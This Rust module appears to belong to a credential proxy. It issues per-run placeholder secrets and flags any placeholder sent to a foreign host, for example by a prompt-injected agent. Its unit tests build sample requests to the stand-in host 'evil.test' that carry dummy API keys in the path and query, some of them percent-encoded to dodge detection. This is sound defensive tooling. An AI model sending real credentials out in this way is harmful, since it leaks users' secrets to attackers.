//! The placeholders of one listener: what a run's child holds in place of
//! each provider's secret, and the tripwire that notices one of them sent
//! where it does not belong.
//!
//! A placeholder is fresh for every run (random, see
//! [`crate::credentials::new_placeholder`]); it is never turned into a
//! secret anywhere. The proxy writes the credential into requests for the
//! provider's own hosts (replacing whatever the child sent), and the
//! response redactor writes the placeholder back where an upstream echoed
//! the secret. A placeholder seen in a request to any other host means the
//! child sent a credential somewhere it does not belong (a prompt-injected
//! agent exfiltrating "its key", or a misconfigured base URL): that is
//! recorded, and refused under `--deny-unknown`.

use std::collections::{BTreeMap, HashMap};
use std::sync::{Arc, RwLock};

use aho_corasick::AhoCorasick;

/// The placeholders of a listener, by provider.
#[derive(Default)]
pub struct Placeholders {
    inner: RwLock<Set>,
}

#[derive(Default)]
struct Set {
    by_provider: HashMap<String, Arc<str>>,
    /// Finds any placeholder; pattern `i` belongs to `owners[i]`.
    matcher: Option<Arc<Matcher>>,
}

struct Matcher {
    ac: AhoCorasick,
    owners: Vec<String>,
}

impl std::fmt::Debug for Placeholders {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        // Not secrets, but not for logs either (the request log and the
        // audit never hold a placeholder's value).
        let n = self.read().by_provider.len();
        f.debug_struct("Placeholders")
            .field("providers", &n)
            .finish()
    }
}

impl Placeholders {
    /// The placeholders a run starts with (provider → value).
    pub fn new(initial: BTreeMap<String, String>) -> Placeholders {
        let p = Placeholders::default();
        {
            let mut set = p.write();
            for (provider, value) in initial {
                set.by_provider.insert(provider, Arc::from(value));
            }
            set.rebuild();
        }
        p
    }

    fn read(&self) -> std::sync::RwLockReadGuard<'_, Set> {
        self.inner.read().unwrap_or_else(|e| e.into_inner())
    }

    fn write(&self) -> std::sync::RwLockWriteGuard<'_, Set> {
        self.inner.write().unwrap_or_else(|e| e.into_inner())
    }

    /// The placeholder of `provider`; one of the default shape is made for
    /// a provider connected after the run started (its child holds none,
    /// but the redactor needs something to write in place of the secret).
    pub fn get(&self, provider: &str) -> crate::error::Result<Arc<str>> {
        if let Some(v) = self.read().by_provider.get(provider) {
            return Ok(v.clone());
        }
        let made = crate::credentials::placeholder_of_shape(
            &crate::providers::schema::PlaceholderShape::default_shape(),
        )?;
        let mut set = self.write();
        let v = set
            .by_provider
            .entry(provider.to_string())
            .or_insert_with(|| Arc::from(made))
            .clone();
        set.rebuild();
        Ok(v)
    }

    /// True when some provider not in `own` has a placeholder (else no
    /// request can carry a foreign one).
    pub fn any_other_than(&self, own: &[&str]) -> bool {
        self.read()
            .by_provider
            .keys()
            .any(|k| !own.contains(&k.as_str()))
    }

    /// `text` with every placeholder replaced by `[placeholder]` (for the
    /// request log, which never holds a placeholder's value).
    pub fn mask<'a>(&self, text: &'a str) -> std::borrow::Cow<'a, str> {
        let Some(matcher) = self.read().matcher.clone() else {
            return std::borrow::Cow::Borrowed(text);
        };
        let marks = || vec!["[placeholder]"; matcher.owners.len()];
        if matcher.ac.is_match(text) {
            return std::borrow::Cow::Owned(matcher.ac.replace_all(text, &marks()));
        }
        if text.contains('%') {
            // Also a placeholder written percent-encoded.
            let decoded = crate::percent::decode(text);
            if matcher.ac.is_match(&decoded) {
                return std::borrow::Cow::Owned(matcher.ac.replace_all(&decoded, &marks()));
            }
        }
        std::borrow::Cow::Borrowed(text)
    }

    /// The provider whose placeholder occurs in `hay`, other than those in
    /// `own` (the providers of the host the request goes to: a child's own
    /// placeholder on its provider's hosts is expected).
    pub fn foreign_in(&self, hay: &[u8], own: &[&str]) -> Option<String> {
        let matcher = self.read().matcher.clone()?;
        matcher
            .ac
            .find_iter(hay)
            .map(|m| &matcher.owners[m.pattern().as_usize()])
            .find(|owner| !own.contains(&owner.as_str()))
            .cloned()
    }
}

impl Set {
    fn rebuild(&mut self) {
        let (owners, values): (Vec<String>, Vec<Arc<str>>) = self
            .by_provider
            .iter()
            .map(|(k, v)| (k.clone(), v.clone()))
            .unzip();
        self.matcher = if values.is_empty() {
            None
        } else {
            AhoCorasick::new(values.iter().map(|v| v.as_bytes()))
                .ok()
                .map(|ac| Arc::new(Matcher { ac, owners }))
        };
    }
}

/// Where a request carried a foreign placeholder.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Location {
    Header,
    Path,
    Query,
    Body,
}

impl Location {
    /// The word the request log and the audit use.
    pub fn as_str(self) -> &'static str {
        match self {
            Location::Header => "header",
            Location::Path => "path",
            Location::Query => "query",
            Location::Body => "body",
        }
    }
}

/// The first foreign placeholder in a request's headers, path or query:
/// `(provider it belongs to, where)`.
pub fn in_head<B>(
    placeholders: &Placeholders,
    req: &http::Request<B>,
    own: &[&str],
) -> Option<(String, Location)> {
    for v in req.headers().values() {
        if let Some(p) = placeholders.foreign_in(v.as_bytes(), own) {
            return Some((p, Location::Header));
        }
    }
    // A placeholder is letters, digits and `-_.`: percent-encoding them is
    // legal but unusual; decode to see through it.
    let seen = |s: &str| {
        placeholders.foreign_in(s.as_bytes(), own).or_else(|| {
            s.contains('%')
                .then(|| crate::percent::decode(s))
                .and_then(|d| placeholders.foreign_in(d.as_bytes(), own))
        })
    };
    if let Some(p) = seen(req.uri().path()) {
        return Some((p, Location::Path));
    }
    seen(req.uri().query()?).map(|p| (p, Location::Query))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn set() -> Placeholders {
        Placeholders::new(
            [
                (
                    "openai".to_string(),
                    "sk-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAA".to_string(),
                ),
                (
                    "github".to_string(),
                    "ghp_BBBBBBBBBBBBBBBBBBBBBBBBBBBBBB".to_string(),
                ),
            ]
            .into(),
        )
    }

    #[test]
    fn own_placeholder_is_expected_a_foreign_one_trips() {
        let p = set();
        let req = http::Request::builder()
            .uri("https://api.openai.com/v1/x")
            .header("authorization", "Bearer sk-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAA")
            .body(())
            .unwrap();
        assert_eq!(in_head(&p, &req, &["openai"]), None);
        assert_eq!(in_head(&p, &req, &["x", "openai"]), None);
        assert_eq!(
            in_head(&p, &req, &["github"]),
            Some(("openai".into(), Location::Header))
        );
        assert_eq!(
            in_head(&p, &req, &[]),
            Some(("openai".into(), Location::Header))
        );
        let req = http::Request::builder()
            .uri("https://evil.test/bot%73k-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAA/send")
            .body(())
            .unwrap();
        assert_eq!(
            in_head(&p, &req, &[]),
            Some(("openai".into(), Location::Path))
        );
        let req = http::Request::builder()
            .uri("https://evil.test/c?k=%67hp_BBBBBBBBBBBBBBBBBBBBBBBBBBBBBB")
            .body(())
            .unwrap();
        assert_eq!(
            in_head(&p, &req, &[]),
            Some(("github".into(), Location::Query))
        );
        let clean = http::Request::builder()
            .uri("https://evil.test/c?k=v")
            .header("x", "sk-AAAA")
            .body(())
            .unwrap();
        assert_eq!(in_head(&p, &clean, &[]), None);
    }

    fn authsome_encode(s: &str) -> String {
        s.bytes().map(|b| format!("%{b:02X}")).collect()
    }

    #[test]
    fn a_provider_connected_later_gets_a_placeholder_that_trips_too() {
        let p = set();
        let late = p.get("slack").unwrap();
        assert!(late.starts_with("authsome-"), "{late}");
        assert_eq!(p.get("slack").unwrap(), late);
        assert_eq!(
            p.foreign_in(format!("x{late}y").as_bytes(), &[]),
            Some("slack".into())
        );
        assert_eq!(p.foreign_in(late.as_bytes(), &["slack"]), None);
        assert_eq!(
            p.mask(&format!("/bot{late}/send")),
            "/bot[placeholder]/send"
        );
        assert_eq!(p.mask("/v1/models"), "/v1/models");
        assert_eq!(
            p.mask(&format!("/a/{}", authsome_encode(&late))),
            "/a/[placeholder]"
        );
    }
}
